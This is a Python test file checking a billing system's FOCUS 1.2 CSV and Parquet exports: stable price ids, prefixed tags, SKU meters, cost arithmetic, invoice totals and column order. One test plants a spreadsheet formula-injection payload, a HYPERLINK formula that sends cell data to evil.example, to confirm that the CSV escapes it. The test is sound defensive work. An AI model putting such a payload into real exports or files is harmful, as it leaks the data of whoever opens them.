"""FOCUS 1.2 rules a FinOps analyst relies on, beyond column types and nullability
(``test_focus.py``): identifiers that stay the same over time, tag keys, and a CSV that a
spreadsheet opens as data.

The rules are read from the FOCUS 1.2 column and attribute definitions, not from our code."""

from __future__ import annotations

import io
import json
import re
import uuid
from collections import defaultdict
from decimal import Decimal

import pyarrow.parquet as pq
from sqlalchemy import update
from sqlalchemy.orm import Session, sessionmaker

from trunkline.billing.capacity import add_capacity
from trunkline.billing.closing import close
from trunkline.billing.exports import export_period
from trunkline.billing.periods import parse_period
from trunkline.billing.pricebook import PriceBook, version_from_document
from trunkline.billing.pricebook_store import apply_price_book, load_price_book
from trunkline.kit.db import transaction
from trunkline.models import Tenant
from unit.billing.billing_support import focus
from unit.billing.test_focus import check_rows, csv_rows, exported
from unit.metering.usage_support import Account, at, event, ingest

PROVIDER_TAG_PREFIX = "trunkline/"
"""The prefix docs/metering.md publishes for the tags Trunkline sets."""


def _two_prices(input_price: str, later_price: str) -> PriceBook:
    def version(number: int, starts: str, price: str) -> dict[str, object]:
        models = {"*": {"input": price, "cached_input": price, "output": price}}
        return {"version": number, "effective_from": starts, "models": models}

    return PriceBook(
        [
            version_from_document(version(1, "2026-01-01T00:00:00Z", input_price)),
            version_from_document(version(2, "2026-11-15T00:00:00Z", later_price)),
        ]
    )


def test_a_sku_price_keeps_its_id_when_its_price_changes(
    factory: sessionmaker[Session], tenants: dict[str, Account]
) -> None:
    """SkuPriceId "MUST remain consistent over time": an analyst follows a price's changes
    by filtering on it. It carried the price book version, so each new version gave every
    SKU a new price id, and a month with a price change showed two prices of one SKU as two
    unrelated ones."""
    with transaction(factory) as session:
        apply_price_book(session, _two_prices("1", "2"))
    initech = tenants["initech"]
    ingest(
        factory,
        [
            event(initech, when=at(14, 23), prompt=1_000_000, completion=0),
            event(initech, when=at(15, 0), prompt=1_000_000, completion=0),
        ],
    )
    rows = focus(factory)
    assert len(rows) == 2 and len({r["SkuId"] for r in rows}) == 1
    assert {Decimal(r["ListUnitPrice"]) for r in rows} == {Decimal(1), Decimal(2)}
    assert len({r["SkuPriceId"] for r in rows}) == 1
    assert {r["x_PriceBookVersion"] for r in rows} == {"1", "2"}


def test_tags_are_provider_defined_under_the_published_prefix(
    factory: sessionmaker[Session], tenants: dict[str, Account]
) -> None:
    """Trunkline sets every tag itself (tenant, project, tier): FOCUS wants provider-defined
    tag keys under a provider-specified prefix, so they never clash with a customer's own
    tags once the export is merged with other providers' (``"tenant"`` stood bare). The
    Parquet file names the prefix as the Tags column's ProviderTagPrefixes metadata."""
    ingest(factory, [event(tenants["acme"], when=at(3))])
    rows = focus(factory)
    assert rows
    for row in rows:
        tags = json.loads(row["Tags"])
        assert tags and all(key.startswith(PROVIDER_TAG_PREFIX) for key in tags), tags
        assert all(isinstance(v, str | int | float | bool) or v is None for v in tags.values())
    assert {k.removeprefix(PROVIDER_TAG_PREFIX) for k in json.loads(rows[0]["Tags"])} >= {
        "tenant",
        "project",
        "tier",
    }
    with transaction(factory) as session:
        body = export_period(session, parse_period("2026-11"), "focus-parquet").body
    field = pq.read_schema(io.BytesIO(body)).field("Tags")
    assert json.loads((field.metadata or {})[b"ProviderTagPrefixes"]) == [PROVIDER_TAG_PREFIX]


def test_a_name_kept_from_before_the_formula_rule_opens_as_text_in_a_spreadsheet(
    factory: sessionmaker[Session], tenants: dict[str, Account]
) -> None:
    """Tenant names may not start with = + - @ since a rule added later: a tenant named so
    before it keeps its name (and a closed month keeps the names of its close for ever). Its
    CSV cell started with ``=`` and a spreadsheet opening the export ran it as a formula; it
    now starts with ``'``, which spreadsheets read as "text follows". Parquet keeps it as is."""
    name = '=HYPERLINK("https://evil.example/?"&A1,"Refund")'
    with transaction(factory) as session:
        session.execute(update(Tenant).where(Tenant.slug == "acme").values(name=name))
    ingest(factory, [event(tenants["acme"], when=at(3))])
    rows = focus(factory)
    assert rows and {r["BillingAccountName"] for r in rows} == {"'" + name}
    with transaction(factory) as session:
        body = export_period(session, parse_period("2026-11"), "focus-parquet").body
    assert set(pq.read_table(io.BytesIO(body)).column("BillingAccountName").to_pylist()) == {name}


FOCUS_PRICE_PROPERTIES = {"GpuCount", "InstanceType", "InstanceSeries", "MemorySize"}
"""FOCUS-defined SkuPriceDetails keys that could apply to a model or a GPU; others are x_."""


def test_skus_have_a_meter_and_price_details(month: sessionmaker[Session]) -> None:
    """A provider with a price list must give SkuMeter and SkuPriceDetails (FOCUS 1.1 on):
    an analyst groups by meter ("Output Tokens", "GPU Hours") across models and flavors, and
    reads a price's properties without parsing ids. Neither column was there."""
    for period in ("2026-11", "2026-12"):
        rows = csv_rows(exported(month, period, "focus-csv"))
        assert rows and {"SkuMeter", "SkuPriceDetails"} <= set(rows[0])
        details_of: dict[str, str | None] = {}
        for row in rows:
            assert (row["SkuMeter"] is None) == (row["SkuId"] is None), row
            details = row["SkuPriceDetails"]
            if row["SkuPriceId"] is None:
                assert details is None, row
                continue
            assert details_of.setdefault(row["SkuPriceId"], details) == details
            parsed = json.loads(details or "{}")
            assert parsed and all(
                k.startswith("x_") or k in FOCUS_PRICE_PROPERTIES for k in parsed
            ), parsed
            assert all(not isinstance(v, dict | list) for v in parsed.values())
        meters = {r["SkuMeter"] for r in rows if r["ChargeCategory"] == "Usage"}
        assert meters >= ({"GPU Hours"} if period == "2026-12" else {"Output Tokens", "GPU Hours"})
    gpu = next(r for r in rows if r["x_AcceleratorFlavor"] == "l40s")
    assert json.loads(gpu["SkuPriceDetails"])["GpuCount"] == 1


def test_unit_prices_times_quantities_are_the_costs(month: sessionmaker[Session]) -> None:
    """FOCUS: ListUnitPrice x PricingQuantity is ListCost and ContractedUnitPrice x
    PricingQuantity is ContractedCost on every row but a correction's; BilledCost and
    EffectiveCost are ContractedCost (no commitments to amortize); a credit's costs are
    negative. Checked to the last digit, in CSV as in Parquet."""
    for period in ("2026-11", "2026-12"):
        csv_values = csv_rows(exported(month, period, "focus-csv"))
        table = pq.read_table(io.BytesIO(exported(month, period, "focus-parquet")))
        for text, typed in zip(csv_values, table.to_pylist(), strict=True):
            for row in (
                {k: Decimal(v) if k.endswith(("Cost", "Price", "Quantity")) and v else v
                 for k, v in text.items()},
                typed,
            ):  # fmt: skip
                costs = {row[c] for c in ("BilledCost", "EffectiveCost", "ContractedCost")}
                assert len(costs) == 1, row
                if row["ChargeCategory"] == "Credit":
                    assert row["BilledCost"] < 0 and row["ListCost"] < 0, row
                if row["ChargeClass"] == "Correction" or row["PricingQuantity"] is None:
                    continue
                quantity = row["PricingQuantity"]
                assert quantity * row["ListUnitPrice"] == row["ListCost"], row
                assert quantity * row["ContractedUnitPrice"] == row["ContractedCost"], row


def test_two_tenants_dedicated_gpus_are_two_resources(
    factory: sessionmaker[Session], tenants: dict[str, Account]
) -> None:
    """ResourceId "MUST be a unique identifier within the provider": GPUs dedicated to acme
    and to globex are two resources, but both were ``dedicated/l40s/eu-west``, so an export
    of every tenant grouped by resource showed one resource billed to two accounts."""
    with transaction(factory) as session:
        for slug in ("acme", "globex"):
            account = tenants[slug]
            add_capacity(
                session,
                uuid.UUID(account.tenant_id),
                "l40s",
                1,
                at(30, 21),
                prices=load_price_book(session),
                region="eu-west",
            )
    rows = [r for r in focus(factory) if r["x_AcceleratorFlavor"] == "l40s"]
    by_tenant: dict[str, set[str]] = defaultdict(set)
    for row in rows:
        by_tenant[row["BillingAccountId"]].add(row["ResourceId"])
    assert len(by_tenant) == 2 and all(len(ids) == 1 for ids in by_tenant.values())
    acme_ids, globex_ids = by_tenant.values()
    assert acme_ids != globex_ids


def test_each_invoice_is_the_sum_of_its_billed_cost(month: sessionmaker[Session]) -> None:
    """FOCUS: the BilledCost of an InvoiceId adds up to that invoice's payable amount. It
    added up to the exact total, fractions of a cent included (5.600000200 for an invoice of
    5.60), so a reconciliation of the export with the invoices failed; a rounding row
    (ChargeCategory "Adjustment") now takes each invoice's sum to its cents. December, once
    closed, bills a correction of November (usage and its SLA credit) beside a month of
    dedicated GPUs; November has usage, a credit and GPUs."""
    with transaction(month) as session:
        close(session, parse_period("2026-12"), at(2, month=1, year=2027))
    for period in ("2026-11", "2026-12"):
        rows = csv_rows(exported(month, period, "focus-csv"))
        assert check_rows(rows) == []
        sums: dict[str, Decimal] = defaultdict(Decimal)
        for row in rows:
            sums[row["InvoiceId"]] += Decimal(row["BilledCost"])
        invoices = exported(month, period, "invoice").decode()
        totals = dict(re.findall(r"INVOICE (\S+).*?TOTAL DUE\s+(\S+)", invoices, re.S))
        assert set(totals) == set(sums) and len(totals) == 2
        for invoice_id, total in sums.items():
            assert Decimal(totals[invoice_id].replace(",", "")) == total, invoice_id
        rounding = [r for r in rows if r["ChargeCategory"] == "Adjustment"]
        assert rounding and all(abs(Decimal(r["BilledCost"])) <= Decimal("0.005") for r in rounding)
        assert len({r["InvoiceId"] for r in rounding}) == len(rounding)
    parquet = pq.read_table(io.BytesIO(exported(month, "2026-11", "focus-parquet")))
    assert "Adjustment" in parquet.column("ChargeCategory").to_pylist()


def test_custom_columns_come_after_every_focus_column(month: sessionmaker[Session]) -> None:
    """FOCUS column order: its own columns first, the x_ ones after them, not intermixed
    (SkuMeter and SkuPriceDetails, when added, came after the x_ columns)."""
    header = exported(month, "2026-11", "focus-csv").split(b"\r\n", 1)[0].decode().split(",")
    custom = [name.startswith("x_") for name in header]
    first = custom.index(True)
    assert all(custom[first:]) and not any(custom[:first])
